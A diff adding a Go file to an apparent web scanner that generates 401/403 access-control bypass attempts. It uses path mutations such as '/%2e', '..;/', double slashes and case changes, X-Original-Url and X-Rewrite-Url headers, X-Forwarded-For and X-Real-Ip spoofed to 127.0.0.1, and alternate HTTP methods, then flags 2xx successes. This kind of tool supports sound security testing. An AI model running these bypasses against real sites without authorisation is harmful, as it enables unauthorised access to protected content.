@@ -0,0 +1,67 @@
+package scanner
+
+import (
+	"net/http"
+	"strings"
+
+	"github.com/Pusher91/webtruder/internal/domain"
+)
+
+const sourceBypass = "bypass"
+
+// bypassAttempts builds the mutations tried against a 401/403 finding.
+// Rewrite headers are sent to a path that does not exist, so only a server that honours them
+// answers with the protected content rather than its usual 404.
+func bypassAttempts(p string) []harvested {
+	if i := strings.IndexAny(p, "?#"); i >= 0 {
+		p = p[:i]
+	}
+	trimmed := strings.TrimRight(p, "/")
+	if trimmed == "" {
+		return nil
+	}
+	slash := strings.LastIndexByte(trimmed, '/')
+	dir, seg := trimmed[:slash+1], trimmed[slash+1:]
+
+	out := make([]harvested, 0, 12)
+	add := func(technique, path, method string, header http.Header) {
+		out = append(out, harvested{path: path, source: sourceBypass, parent: p, method: method, header: header, technique: technique})
+	}
+
+	add("dot-segment", "/%2e"+trimmed, "", nil)
+	add("semicolon", trimmed+";/", "", nil)
+	add("dot-dot-semicolon", trimmed+"/..;/", "", nil)
+	add("double-slash", "/"+trimmed, "", nil)
+	add("trailing-dot", trimmed+"/.", "", nil)
+	if up := strings.ToUpper(seg); up != seg {
+		add("uppercase", dir+up, "", nil)
+	}
+	if title := strings.ToUpper(seg[:1]) + seg[1:]; title != seg && title != strings.ToUpper(seg) {
+		add("capitalize", dir+title, "", nil)
+	}
+
+	nowhere := "/" + domain.NewScanID()
+	add("x-original-url", nowhere, "", http.Header{"X-Original-Url": {p}})
+	add("x-rewrite-url", nowhere, "", http.Header{"X-Rewrite-Url": {p}})
+	add("x-forwarded-for", p, "", http.Header{"X-Forwarded-For": {"127.0.0.1"}})
+	add("x-real-ip", p, "", http.Header{"X-Real-Ip": {"127.0.0.1"}})
+
+	add("method-post", p, http.MethodPost, nil)
+	add("method-head", p, http.MethodHead, nil)
+	return out
+}
+
+// isBypassCandidate reports whether a finding is access-denied and worth retrying.
+func isBypassCandidate(status int, source string) bool {
+	return (status == http.StatusUnauthorized || status == http.StatusForbidden) && source != sourceBypass
+}
+
+// bypassSucceeded reports whether a bypass attempt got a meaningfully different answer:
+// a 2xx the host does not also give for missing paths. Redirects are left out; they mostly
+// normalise the mutated path back to the protected one or point at a login page.
+func bypassSucceeded(h *hostCfg, out probeOutcome) bool {
+	if out.errStr != "" || out.status < 200 || out.status >= 300 {
+		return false
+	}
+	return !h.soft404.Match(out.status, out.length)
+}